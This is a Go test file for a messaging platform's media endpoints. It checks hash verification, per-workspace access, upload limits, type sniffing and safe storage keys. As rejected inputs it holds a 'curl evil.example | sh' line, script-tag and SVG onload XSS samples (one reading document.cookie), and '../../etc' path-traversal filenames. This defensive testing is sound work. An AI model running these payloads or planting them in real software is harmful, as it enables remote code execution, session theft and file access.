package test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/wabaplatform/waba/adapters/meta/sandbox"
)

// A small JPEG-looking file and a PDF: the sniffer reads their first bytes.
var (
	jpegBytes = append([]byte("\xFF\xD8\xFF\xE0\x00\x10JFIF\x00"), bytes.Repeat([]byte{0x42}, 3000)...)
	pdfBytes  = []byte("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
)

// waitMedia polls a message as the owner until its media has left pending.
func (e *msgEnv) waitMedia(t *testing.T, messageID string) map[string]any {
	t.Helper()
	var m map[string]any
	eventually(t, 30*time.Second, func() bool {
		msg := e.a.Must(t, 200, "GET", wsPath(e.tm, "/messages/"+messageID), e.tm.Owner.Token, nil)
		m, _ = msg["media"].(map[string]any)
		return m != nil && m["status"] != "pending"
	}, "the message's media should be downloaded")
	return m
}

// countingReader counts what the upload read of a body far larger than any limit.
type countingReader struct {
	r io.Reader
	n atomic.Int64
}

func (c *countingReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n.Add(int64(n))
	return n, err
}

// zeros is an endless body.
type zeros struct{}

func (zeros) Read(p []byte) (int, error) { clear(p); return len(p), nil }

// upload posts a multipart body (phone_number_id, then the file) streamed from file, with
// no Content-Length (chunked): only what the server reads is sent.
func upload(t *testing.T, a *App, ws, token, phoneNumberID, filename string, file io.Reader) Response {
	t.Helper()
	pr, pw := io.Pipe()
	mw := multipart.NewWriter(pw)
	go func() {
		err := func() error {
			if phoneNumberID != "" {
				if err := mw.WriteField("phone_number_id", phoneNumberID); err != nil {
					return err
				}
			}
			part, err := mw.CreateFormFile("file", filename)
			if err != nil {
				return err
			}
			if _, err := io.Copy(part, file); err != nil {
				return err
			}
			return mw.Close()
		}()
		pw.CloseWithError(err)
	}()
	req, err := http.NewRequest(http.MethodPost, a.URL+"/v1/workspaces/"+ws+"/media", pr)
	require.NoError(t, err)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	req.Header.Set("Authorization", "Bearer "+token)
	res, err := http.DefaultClient.Do(req)
	pr.CloseWithError(errors.New("the test is done with the body"))
	require.NoError(t, err)
	defer res.Body.Close()
	raw, err := io.ReadAll(res.Body)
	require.NoError(t, err)
	return Response{Status: res.StatusCode, Header: res.Header, Body: raw}
}

// content reads a media file's bytes.
func content(t *testing.T, a *App, ws, token, id string) Response {
	t.Helper()
	return a.Do(t, http.MethodGet, "/v1/workspaces/"+ws+"/media/"+id+"/content", token, nil)
}

// TestMediaInboundStoredAndVisible: an inbound image and document are downloaded from the
// sandbox into the media store at once, their sha256 checked; the message shows the stored
// media; the contact's agent (and a viewer) read the bytes, another agent gets 404, as for
// the message.
func TestMediaInboundStoredAndVisible(t *testing.T) {
	t.Parallel()
	e := newMsgEnv(t)
	other := e.a.addMember(t, e.tm.WS, e.tm.Owner, "agent")
	phone := nextPhone()
	e.a.Must(t, 201, "POST", wsPath(e.tm, "/contacts"), e.tm.Owner.Token, map[string]any{"phone": phone, "assigned_to": e.tm.Agent.ID})

	for _, c := range []struct {
		typ, mime string
		data      []byte
		content   string
	}{
		{"image", "image/jpeg", jpegBytes, `{"caption":"my receipt"}`},
		{"document", "application/pdf", pdfBytes, `{"filename":"../../etc/invoice.pdf","caption":"invoice"}`},
	} {
		t.Run(c.typ, func(t *testing.T) {
			wamid, err := e.sb.InjectInbound(sandbox.Inbound{PhoneNumberID: e.acct.PhoneNumberID, From: phone, Type: c.typ,
				Content: json.RawMessage(c.content), MediaData: c.data})
			require.NoError(t, err)
			msgID := e.inboundID(t, wamid).String()
			m := e.waitMedia(t, msgID)
			require.Equal(t, "stored", m["status"], "%v", m)
			require.Equal(t, c.mime, m["mime_type"])
			require.EqualValues(t, len(c.data), m["size"])
			id := m["id"].(string)

			sum := sha256.Sum256(c.data)
			var stored, key string
			require.NoError(t, e.a.Pool.QueryRow(context.Background(), `SELECT sha256, storage_key FROM media WHERE id = $1`, id).Scan(&stored, &key))
			require.Equal(t, hex.EncodeToString(sum[:]), stored)
			require.Equal(t, e.tm.WS+"/"+id, key, "the key is generated, never the file's name")

			res := content(t, e.a, e.tm.WS, e.tm.Agent.Token, id)
			require.Equal(t, http.StatusOK, res.Status, "%s", res.Body)
			require.Equal(t, c.data, res.Body)
			require.Equal(t, c.mime, res.Header.Get("Content-Type"))
			require.Equal(t, "nosniff", res.Header.Get("X-Content-Type-Options"))
			if c.typ == "document" {
				require.Equal(t, `attachment; filename=invoice.pdf`, res.Header.Get("Content-Disposition"))
			}
			res = content(t, e.a, e.tm.WS, e.tm.Viewer.Token, id)
			require.Equal(t, http.StatusOK, res.Status, "a viewer reads what it may see")

			res = content(t, e.a, e.tm.WS, other.Token, id)
			require.Equal(t, http.StatusNotFound, res.Status, "%s", res.Body)
			require.Equal(t, http.StatusNotFound, e.a.Do(t, "GET", wsPath(e.tm, "/messages/"+msgID), other.Token, nil).Status,
				"the message is as hidden as its media")
			res = content(t, e.a, e.tm.OtherWS, e.tm.Outside.Token, id)
			require.Equal(t, http.StatusNotFound, res.Status, "another workspace")
		})
	}
}

// TestMediaSHA256MismatchMarksFailed: when the bytes do not hash to what Meta announced,
// the file is failed with the reason and nothing is kept in the store.
func TestMediaSHA256MismatchMarksFailed(t *testing.T) {
	t.Parallel()
	e := newMsgEnv(t)
	wrong := sha256.Sum256([]byte("something else"))
	wamid, err := e.sb.InjectInbound(sandbox.Inbound{PhoneNumberID: e.acct.PhoneNumberID, From: nextPhone(), Type: "image",
		Content: json.RawMessage(`{"sha256":"` + hex.EncodeToString(wrong[:]) + `"}`), MediaData: jpegBytes})
	require.NoError(t, err)
	m := e.waitMedia(t, e.inboundID(t, wamid).String())
	require.Equal(t, "failed", m["status"])
	var reason, key string
	require.NoError(t, e.a.Pool.QueryRow(context.Background(), `SELECT failure_reason, storage_key FROM media WHERE id = $1`,
		m["id"]).Scan(&reason, &key))
	require.Contains(t, reason, "sha256 mismatch")
	res := content(t, e.a, e.tm.WS, e.tm.Owner.Token, m["id"].(string))
	require.Equal(t, http.StatusConflict, res.Status, "%s", res.Body)
	_, err = os.Stat(filepath.Join(bucketDir(t, e.a), filepath.FromSlash(key)))
	require.True(t, os.IsNotExist(err), "the corrupt download is not kept")
}

func bucketDir(t *testing.T, a *App) string {
	t.Helper()
	u, err := url.Parse(a.Cfg.MediaBucketURL)
	require.NoError(t, err)
	return filepath.FromSlash(u.Path)
}

// TestMediaUploadRefusals: past the type's limit is 413 without the rest of the body being
// read; a script or HTML named .jpg is 422 (the bytes decide); a viewer may not upload.
func TestMediaUploadRefusals(t *testing.T) {
	t.Parallel()
	e := newMsgEnv(t)

	huge := &countingReader{r: io.MultiReader(bytes.NewReader(jpegBytes), io.LimitReader(zeros{}, 1<<30))}
	r := upload(t, e.a, e.tm.WS, e.tm.Owner.Token, e.acct.PhoneNumberID, "big.jpg", huge)
	require.Equal(t, http.StatusRequestEntityTooLarge, r.Status, "%s", r.Body)
	require.Equal(t, "payload_too_large", r.Code(t))
	// The server read at most the 5 MiB limit plus a byte; what else left the client sits in
	// socket buffers, never near the gigabyte offered.
	require.Less(t, huge.n.Load(), int64(5<<20+16<<20), "the upload stopped early")

	for name, body := range map[string]string{
		"script.jpg": "#!/bin/sh\ncurl evil.example | sh\n",
		"page.jpg":   "<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
		"image.svg":  `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
		"notes.jpg":  "just text pretending to be a photo",
		"x.exe":      "MZ\x90\x00\x03\x00\x00\x00",
	} {
		r := upload(t, e.a, e.tm.WS, e.tm.Owner.Token, e.acct.PhoneNumberID, name, strings.NewReader(body))
		require.Equal(t, http.StatusUnprocessableEntity, r.Status, "%s: %s", name, r.Body)
		require.Equal(t, "validation_failed", r.Code(t), name)
	}
	r = upload(t, e.a, e.tm.WS, e.tm.Viewer.Token, e.acct.PhoneNumberID, "a.jpg", bytes.NewReader(jpegBytes))
	require.Equal(t, http.StatusForbidden, r.Status)
	r = upload(t, e.a, e.tm.WS, e.tm.Owner.Token, "999999", "a.jpg", bytes.NewReader(jpegBytes))
	require.Equal(t, http.StatusConflict, r.Status, "not a number of the workspace: %s", r.Body)
	var n int
	require.NoError(t, e.a.Pool.QueryRow(context.Background(), `SELECT count(*) FROM media`).Scan(&n))
	require.Zero(t, n, "nothing refused is kept")
}

// TestMediaUploadThenSendByOurID: an upload is stored (its bytes read back as sent, under
// a generated key whatever the file's name) and on Meta; a document sent by our media id
// reaches the sandbox with Meta's media id.
func TestMediaUploadThenSendByOurID(t *testing.T) {
	t.Parallel()
	e := newMsgEnv(t)
	r := upload(t, e.a, e.tm.WS, e.tm.Agent.Token, e.acct.PhoneNumberID, "../../../etc/passwd.pdf", bytes.NewReader(pdfBytes))
	require.Equal(t, http.StatusCreated, r.Status, "%s", r.Body)
	up := r.JSON(t)
	sum := sha256.Sum256(pdfBytes)
	require.Equal(t, hex.EncodeToString(sum[:]), up["sha256"])
	require.Equal(t, "application/pdf", up["mime_type"])
	require.EqualValues(t, len(pdfBytes), up["size"])
	require.Equal(t, "passwd.pdf", up["filename"], "a display name, no path")
	metaID, id := up["media_id"].(string), up["id"].(string)
	require.NotEmpty(t, metaID)

	dir := bucketDir(t, e.a)
	stored, err := os.ReadFile(filepath.Join(dir, e.tm.WS, id))
	require.NoError(t, err, "kept under workspace/id")
	require.Equal(t, pdfBytes, stored)
	_, err = os.Stat(filepath.Join(filepath.Dir(dir), "etc"))
	require.True(t, os.IsNotExist(err), "the name never became a path")

	res := content(t, e.a, e.tm.WS, e.tm.Manager.Token, id)
	require.Equal(t, http.StatusOK, res.Status)
	require.Equal(t, pdfBytes, res.Body)

	contactID, _ := e.windowContact(t, e.tm.Agent.ID)
	for _, bad := range []map[string]any{
		{"type": "image", "image": map[string]any{"media_id": id}},                                           // a PDF is no image
		{"type": "document", "document": map[string]any{"media_id": "0190a4c2-0000-7000-8000-000000000000"}}, // none such
	} {
		bad["to"] = contactID
		r := e.send(t, e.tm.Agent.Token, bad)
		require.Equal(t, http.StatusUnprocessableEntity, r.Status, "%v: %s", bad, r.Body)
	}
	r = e.send(t, e.tm.Agent.Token, map[string]any{"to": contactID, "type": "document",
		"document": map[string]any{"media_id": id, "filename": "invoice.pdf", "caption": "Your invoice"}})
	require.Equal(t, http.StatusAccepted, r.Status, "%s", r.Body)
	msgID := r.JSON(t)["id"].(string)
	e.waitMessage(t, msgID, "sent", hasWAMID)

	var doc map[string]any
	for _, m := range e.sb.Messages() {
		if m.BizOpaqueCallbackData == msgID {
			var p map[string]any
			require.NoError(t, json.Unmarshal(m.Payload, &p))
			doc, _ = p["document"].(map[string]any)
		}
	}
	require.NotNil(t, doc, "the sandbox got the message")
	require.Equal(t, metaID, doc["id"], "sent by Meta's id")
	require.Equal(t, "invoice.pdf", doc["filename"])
	require.Equal(t, fmt.Sprint("Your invoice"), doc["caption"])
}
